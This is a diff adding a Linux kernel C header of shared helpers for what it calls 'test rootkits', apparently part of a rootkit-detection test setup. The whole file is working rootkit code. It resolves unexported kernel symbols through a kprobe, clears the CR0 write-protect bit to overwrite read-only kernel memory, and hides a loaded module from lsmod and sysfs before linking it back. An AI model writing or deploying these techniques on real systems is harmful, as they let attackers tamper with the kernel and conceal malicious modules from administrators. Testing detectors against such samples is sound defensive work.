@@ -1,0 +1,93 @@
+/* SPDX-License-Identifier: GPL-2.0 */
+/*
+ * rkit.h - what the test rootkits share: find an unexported symbol, write
+ * read-only kernel memory, hide the module and link it back.
+ *
+ * rkit_lookup(name): kallsyms_lookup_name, itself found with a kprobe.
+ * rkit_poke(dst, src, len): a copy with CR0.WP cleared, interrupts off.
+ * rkit_hide(): unlink THIS_MODULE from the modules list (what lsmod reads)
+ * and delete its kobject (/sys/module, module_kset's list); its memory
+ * stays in mod_tree.  rkit_unhide(): link it back into both lists (not
+ * sysfs); it then cannot be unloaded (its sysfs teardown would find no
+ * directory).  module_mutex is not exported: like real rootkits, these go
+ * without it (the test guest is quiet while they run).  For testing only.
+ */
+#ifndef RKIT_H
+#define RKIT_H
+
+#include <linux/kobject.h>
+#include <linux/kprobes.h>
+#include <linux/module.h>
+#include <linux/rculist.h>
+#include <asm/special_insns.h>
+
+static unsigned long rkit_lookup(const char *name)
+{
+	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
+	unsigned long (*kln)(const char *);
+
+	if (register_kprobe(&kp))
+		return 0;
+	kln = (void *)kp.addr;
+	unregister_kprobe(&kp);
+	return kln(name);
+}
+
+static inline void rkit_cr0_write(unsigned long v)
+{
+	asm volatile("mov %0, %%cr0" : "+r"(v) : : "memory");
+}
+
+static void rkit_poke(void *dst, const void *src, size_t len)
+{
+	unsigned long flags, cr0;
+
+	local_irq_save(flags);
+	cr0 = read_cr0();
+	rkit_cr0_write(cr0 & ~X86_CR0_WP);
+	memcpy(dst, src, len);
+	rkit_cr0_write(cr0);
+	local_irq_restore(flags);
+}
+
+static struct list_head *rkit_modules_head;	/* the kernel's `modules` */
+static struct kset *rkit_kset;
+static bool rkit_hidden;
+
+/* the one entry of the modules list that lies in the kernel image */
+static struct list_head *rkit_find_head(void)
+{
+	struct list_head *p;
+	int n = 0;
+
+	for (p = THIS_MODULE->list.next; p != &THIS_MODULE->list && n < 100000; p = p->next, n++)
+		if ((unsigned long)p < MODULES_VADDR || (unsigned long)p >= MODULES_END)
+			return p;
+	return NULL;
+}
+
+static int rkit_hide(void)
+{
+	rkit_modules_head = rkit_find_head();
+	rkit_kset = THIS_MODULE->mkobj.kobj.kset;
+	if (!rkit_modules_head || !rkit_kset)
+		return -ENOENT;
+	kset_get(rkit_kset);		/* kobject_del drops the kobject's reference */
+	list_del(&THIS_MODULE->list);
+	kobject_del(&THIS_MODULE->mkobj.kobj);
+	rkit_hidden = true;
+	return 0;
+}
+
+static void rkit_unhide(void)
+{
+	if (!rkit_hidden)
+		return;
+	list_add_tail_rcu(&THIS_MODULE->list, rkit_modules_head);
+	spin_lock(&rkit_kset->list_lock);
+	list_add_tail(&THIS_MODULE->mkobj.kobj.entry, &rkit_kset->list);
+	spin_unlock(&rkit_kset->list_lock);
+	rkit_hidden = false;
+}
+
+#endif
